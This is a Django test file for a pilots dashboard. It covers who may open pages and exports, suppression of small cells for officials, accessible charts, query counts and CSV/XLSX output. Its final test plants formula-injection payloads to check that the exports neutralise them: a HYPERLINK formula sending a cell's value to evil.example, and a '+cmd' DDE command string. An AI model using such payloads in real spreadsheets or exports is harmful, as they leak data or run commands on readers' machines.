"""The dashboard pages and their exports, through the doors people use: who gets a page, who
gets 404, what each reader sees, and what the files hold."""

import csv
import io
import re

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from pilots.models import Pilot
from tests.pilots.helpers import signed_in

pytestmark = pytest.mark.django_db


def dashboard(pilot):
    return reverse("pilots:dashboard", args=[pilot.pk])


def export(pilot, fmt):
    return reverse("pilots:dashboard_export", args=[pilot.pk, fmt])


def section(response, key):
    """The (table, svg) of the page's section `key` ("funnel", "by_gender"...)."""
    return next(pair for pair in response.context["sections"] if pair[0].key == key)


def row_texts(table, label):
    row = next(r for r in table.rows if r[0].text == label)
    return [cell.text for cell in row[1:]]


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def csv_table(rows, caption):
    """The rows of one table in the stacked CSV: from its caption to the next empty line."""
    start = rows.index([caption])
    end = rows.index([], start)
    return rows[start + 1 : end]


# Who may open what.


@pytest.mark.parametrize("who", ["provider", "academic", "official", "assessor", "staff"])
def test_partners_ministry_authority_and_staff_open_the_pilot_dashboard(world, who):
    response = signed_in(getattr(world, who)).get(dashboard(world.pilot))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("who", ["stranger", None])
def test_strangers_and_anonymous_visitors_get_404(world, who):
    user = getattr(world, who) if who else None
    client = signed_in(user)
    for url in [
        dashboard(world.pilot),
        export(world.pilot, "csv"),
        export(world.pilot, "xlsx"),
        reverse("pilots:dashboard_across"),
        reverse("pilots:dashboard_across_export", args=["csv"]),
        reverse("pilots:dashboard_across_export", args=["xlsx"]),
    ]:
        assert client.get(url).status_code == 404, url


def test_an_unknown_export_format_is_404(world):
    client = signed_in(world.provider)
    assert client.get(export(world.pilot, "pdf")).status_code == 404
    assert client.get(reverse("pilots:dashboard_across_export", args=["json"])).status_code == 404


def test_a_ministry_of_another_country_gets_404(world):
    from tests.pilots.helpers import make_organisation, make_user

    person = make_user("official@ministry.co.za", two_factor=True)
    from portal.accounts.models import OrganisationKind

    make_organisation(
        "Department of Higher Education",
        OrganisationKind.MINISTRY,
        person,
        staff=world.staff,
        country_code="ZA",
    )
    client = signed_in(person)
    assert client.get(dashboard(world.pilot)).status_code == 404
    # Their own country's dashboard across pilots opens, empty.
    response = client.get(reverse("pilots:dashboard_across"))
    assert response.status_code == 200
    assert response.context["data"].pilots == []


@pytest.mark.parametrize("who", ["provider", "academic", "official", "assessor", "staff"])
def test_the_pilots_list_links_to_the_dashboard_across_pilots(world, who):
    response = signed_in(getattr(world, who)).get(reverse("pilots:list"))
    assert response.status_code == 200
    link = f'<a href="{reverse("pilots:dashboard_across")}">Dashboard across pilots</a>'
    assert link in response.content.decode()


def test_the_pilots_list_has_no_dashboard_link_for_whoever_may_not_open_it(world):
    client = signed_in(world.stranger)
    assert client.get(reverse("pilots:dashboard_across")).status_code == 404
    response = client.get(reverse("pilots:list"))
    assert response.status_code == 200
    assert reverse("pilots:dashboard_across") not in response.content.decode()


# What each reader sees.


def test_a_partner_sees_every_figure(world):
    response = signed_in(world.provider).get(dashboard(world.pilot))
    assert not response.context["data"].applies_suppression
    gender, svg = section(response, "by_gender")
    # Enrolled, completed, awarded, in work; completion, pass, award, employment rates.
    assert row_texts(gender, "Another gender") == [
        "1", "1", "0", "1", "100.0%", "100.0%", "0.0%", "100.0%",
    ]  # fmt: skip
    assert row_texts(gender, "Female") == ["7", "6", "5", "4", "85.7%", "83.3%", "71.4%", "80.0%"]
    youth, _svg = section(response, "by_youth")
    assert row_texts(youth, "Young people (as the country defines youth)")[:4] == [
        "10", "8", "5", "4",
    ]  # fmt: skip
    html = response.content.decode()
    assert "Cells under 5 are hidden" not in html
    assert ">hidden<" not in html
    assert html.count('role="img"') == 7  # the funnel and six breakdowns


def test_an_official_sees_small_cells_hidden(world):
    response = signed_in(world.official).get(dashboard(world.pilot))
    data = response.context["data"]
    assert data.applies_suppression and data.suppressed
    html = response.content.decode()
    assert "Cells under 5 are hidden." in html
    gender, _svg = section(response, "by_gender")
    assert row_texts(gender, "Female") == [
        "7", "6", "hidden", "hidden", "85.7%", "83.3%", "hidden", "hidden",
    ]  # fmt: skip
    # One person: every figure hidden but the zero awarded (a zero describes nobody); the
    # award rate, 0 of a hidden 1, is hidden with its denominator.
    assert row_texts(gender, "Another gender") == ["hidden", "hidden", "0"] + ["hidden"] * 5
    assert row_texts(gender, "All participants") == [
        "14", "11", "8", "7", "78.6%", "81.8%", "57.1%", "70.0%",
    ]  # fmt: skip
    youth, _svg = section(response, "by_youth")
    assert set(row_texts(youth, "Young people (as the country defines youth)")) == {"hidden"}
    indicators = {row[0].text: row[1].text for row in response.context["indicators"].rows}
    assert indicators["Share of young people"] == "hidden"
    assert indicators["Share of women"] == "50.0%"
    assert indicators["Employer satisfaction"] == "3.86"
    # The hidden figures are not in the chart's words either: women awarded (5) and every
    # figure for men (5, 4, 3, 2) are hidden; the visible ones are 7, 6, 0.
    _table, svg = section(response, "by_gender")
    assert ">hidden<" in svg and ">7<" in svg and ">6<" in svg
    assert not re.search(r">[2-5]<", svg)
    assert section(response, "by_youth")[1] is None


def test_the_pages_charts_are_accessible_svg_without_style_attributes(world):
    response = signed_in(world.official).get(dashboard(world.pilot))
    html = response.content.decode()
    svgs = re.findall(r"<svg.*?</svg>", html, re.DOTALL)
    # The funnel and the breakdowns with a visible bar: by age band and youth everything
    # non-zero is hidden, so those two say so instead of drawing an empty chart.
    assert len(svgs) == 5
    assert html.count("No chart: every figure it would draw is hidden or zero.") == 2
    for svg in svgs:
        assert 'role="img"' in svg
        assert re.search(r"<title id=\"[^\"]+\">[^<]+</title>", svg)
        assert "style=" not in svg and "<script" not in svg
    assert " style=" not in html
    # Each chart is followed by its table.
    assert html.index('id="by_gender-heading"') < html.index("chart-by-gender-title")
    assert html.index("chart-by-gender-title") < html.index('id="by_gender-caption"')


def test_the_page_takes_a_fixed_number_of_queries(world, second):
    from tests.caches import clear_caches
    from tests.pilots.dashboards.conftest import SECOND, rows_of
    from tests.pilots.helpers import add_participants

    client = signed_in(world.official)
    client.get(dashboard(world.pilot))  # the session's first request reads more
    with CaptureQueriesContext(connection) as kept:
        client.get(dashboard(world.pilot))
    clear_caches()
    with CaptureQueriesContext(connection) as one:
        client.get(dashboard(world.pilot))
    clear_caches()
    with CaptureQueriesContext(connection) as across:
        client.get(reverse("pilots:dashboard_across"))
    # Adding a pilot's worth of participants does not add queries.
    more = [(f"X{ref}", values) for ref, values in rows_of(world, SECOND)]
    add_participants(world, more)
    clear_caches()  # what else the page keeps (the site's paths) is read again, as before
    with CaptureQueriesContext(connection) as again:
        client.get(dashboard(world.pilot))
    assert len(again) == len(one)
    clear_caches()
    with CaptureQueriesContext(connection) as across_again:
        client.get(reverse("pilots:dashboard_across"))
    assert len(across_again) == len(across)
    # With the pilot's counts kept, the participants are not read at all.
    assert len(kept) < len(one)
    assert not any("GROUP BY" in query["sql"] for query in kept.captured_queries)


# Across pilots.


def test_the_official_adds_up_both_pilots_with_suppression(world, second):
    response = signed_in(world.official).get(reverse("pilots:dashboard_across"))
    data = response.context["data"]
    assert {p.pk for p in data.pilots} == {world.pilot.pk, second.pilot.pk}
    funnel, _svg = section(response, "funnel")
    assert row_texts(funnel, "Enrolled") == ["21", "100.0%"]
    by_pilot, _svg = section(response, "by_pilot")
    assert row_texts(by_pilot, "All pilots")[:4] == ["21", "17", "13", "12"]
    gender, _svg = section(response, "by_gender")
    # 7 women in the first pilot (shown there) and 3 in the second (hidden there): hidden.
    assert row_texts(gender, "Female")[0] == "hidden"
    # The ministry may ask for its country's summary from here.
    assert [c.code for c in response.context["summary_countries"]] == ["MU"]
    assert "Make the summary for Mauritius (.docx)" in response.content.decode()


def test_filters_choose_the_pilots(world, second):
    from pilots.actions.pilots import set_status

    set_status(pilot=second.pilot, status="running", by=second.provider)
    client = signed_in(world.official)
    response = client.get(reverse("pilots:dashboard_across"), {"status": "running"})
    assert [p.pk for p in response.context["data"].pilots] == [second.pilot.pk]
    response = client.get(reverse("pilots:dashboard_across"), {"entry": world.entry.pk})
    assert [p.pk for p in response.context["data"].pilots] == [world.pilot.pk]
    response = client.get(reverse("pilots:dashboard_across"), {"country": world.pilot.country_id})
    assert len(response.context["data"].pilots) == 2
    # A choice outside what the person may see is refused, and shows nothing.
    response = client.get(reverse("pilots:dashboard_across"), {"entry": 999999})
    assert response.status_code == 200
    assert response.context["form"].errors and response.context["data"].pilots == []


def test_a_partner_sees_only_their_pilots_across(world, second):
    response = signed_in(world.provider).get(reverse("pilots:dashboard_across"))
    data = response.context["data"]
    assert [p.pk for p in data.pilots] == [world.pilot.pk]
    assert not data.applies_suppression
    # The filter lists only what they may see.
    entries = list(response.context["form"].fields["entry"].queryset)
    assert entries == [world.entry]
    # A partner reads their pilot's report, not the country's summary.
    assert response.context["summary_countries"] == []


# Exports.


def test_an_officials_csv_export_is_suppressed(world):
    response = signed_in(world.official).get(export(world.pilot, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response.content)
    assert rows[1][0].startswith("Cells under 5 are hidden")
    gender = csv_table(rows, "By gender")
    assert gender[0][:3] == ["Gender", "Enrolled", "Completed"]
    female = next(row for row in gender if row[0] == "Female")
    assert female[1:5] == ["7", "6", "hidden", "hidden"]
    other = next(row for row in gender if row[0] == "Another gender")
    assert other[1:] == ["hidden", "hidden", "0"] + ["hidden"] * 5


def test_a_partners_xlsx_export_has_every_figure_as_numbers(world):
    response = signed_in(world.provider).get(export(world.pilot, "xlsx"))
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[0] == "About"
    sheet = workbook["By gender"]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    female = next(row for row in rows if row[0] == "Female")
    assert female[1:5] == [7, 6, 5, 4]
    assert female[5] == 85.7
    assert not any(value == "hidden" for row in rows for value in row)


def test_an_officials_xlsx_export_is_suppressed(world):
    response = signed_in(world.official).get(export(world.pilot, "xlsx"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = [[cell.value for cell in row] for row in workbook["Young people and others"].iter_rows()]
    young = next(row for row in rows if row[0] == "Young people (as the country defines youth)")
    assert set(young[1:]) == {"hidden"}
    about = [row[0].value for row in workbook["About"].iter_rows()]
    assert any(line.startswith("Cells under 5 are hidden") for line in about)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_exports_neutralise_formulas(world, second):
    # A title the form may refuse, as it may yet be stored.
    Pilot.objects.filter(pk=second.pilot.pk).update(title=FORMULA)
    from pilots.actions.pilots import set_target

    set_target(
        pilot=world.pilot,
        key="",
        label="+cmd|' /C calc'!A0",
        unit="@SUM(1)",
        target=5,
        actual=3,
        by=world.provider,
    )
    client = signed_in(world.staff)
    content = client.get(reverse("pilots:dashboard_across_export", args=["csv"])).content
    rows = csv_rows(content)
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    workbook = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("pilots:dashboard_across_export", args=["xlsx"])).content)
    )
    values = [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert "'" + FORMULA in values
    assert not any(value.startswith(("=", "+", "@", "-")) for value in values)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"

    partner = signed_in(world.provider).get(export(world.pilot, "csv")).content
    partner_cells = [cell for row in csv_rows(partner) for cell in row]
    assert any(cell.startswith("'+cmd") for cell in partner_cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in partner_cells)
